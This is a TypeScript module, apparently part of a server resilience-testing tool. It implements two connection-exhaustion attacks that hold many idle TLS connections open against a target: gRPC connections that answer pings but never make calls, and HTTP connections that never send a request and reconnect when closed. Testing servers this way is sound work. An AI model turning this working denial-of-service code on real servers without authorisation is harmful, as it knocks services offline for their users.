import type { Attack, Counts } from './attack.js';
import { openTls } from './connection.js';
import { frame, greeting } from './frames.js';

/** Handshakes under way at once: more would only wait for each other. */
const HANDSHAKES = 50;
const ACK = 1;
const PING_ANSWER_MS = 5_000;

function open(connections: number, one: (index: number, done: () => void) => void): void {
  let next = 0;
  const begin = () => {
    if (next < connections) one(next++, begin);
  };
  for (let i = 0; i < HANDSHAKES; i++) begin();
}

/** Connections of gRPC that say what they have to, answer pings, and never make a call. */
export const idleGrpc: Attack = (target, { connections = 1 }) => {
  const counts: Counts = { connections: 0, closed: 0 };
  open(connections, (index, done) => {
    const socket = openTls(target.grpc, target, 'h2', index);
    socket.once('secureConnect', () => {
      counts.connections = (counts.connections ?? 0) + 1;
      socket.write(Buffer.concat([greeting(), frame('settings', { flags: ACK })]));
      done();
    });
    socket.on('data', (bytes: Buffer) => answerPing(bytes, (answer) => socket.write(answer)));
    socket.once('close', () => {
      counts.closed = (counts.closed ?? 0) + 1;
      // Those that were closed before they could say anything.
      if (socket.getProtocol() === null) setTimeout(done, PING_ANSWER_MS);
    });
  });
  return counts;
};

/** Connections of HTTP that never ask. */
export const idleHttp: Attack = (target, { connections = 1 }) => {
  const counts: Counts = { connections: 0, closed: 0 };
  const begin = (index: number, done: () => void) => {
    const socket = openTls(target.http, target, 'http/1.1', index);
    let isDone = false;
    const once = () => {
      if (!isDone) done();
      isDone = true;
    };
    socket.resume();
    socket.once('secureConnect', () => {
      counts.connections = (counts.connections ?? 0) + 1;
      once();
    });
    socket.once('close', () => {
      counts.closed = (counts.closed ?? 0) + 1;
      once();
      setTimeout(() => begin(index, () => {}), 1_000);
    });
  };
  open(connections, begin);
  return counts;
};

/** A ping comes alone when nothing else does. */
function answerPing(bytes: Buffer, write: (answer: Buffer) => void): void {
  const [PING, HEAD_BYTES, PING_BYTES] = [6, 9, 8];
  if (bytes.length !== HEAD_BYTES + PING_BYTES || bytes[3] !== PING || bytes[4] === ACK) return;
  write(frame('ping', { flags: ACK, payload: bytes.subarray(HEAD_BYTES) }));
}
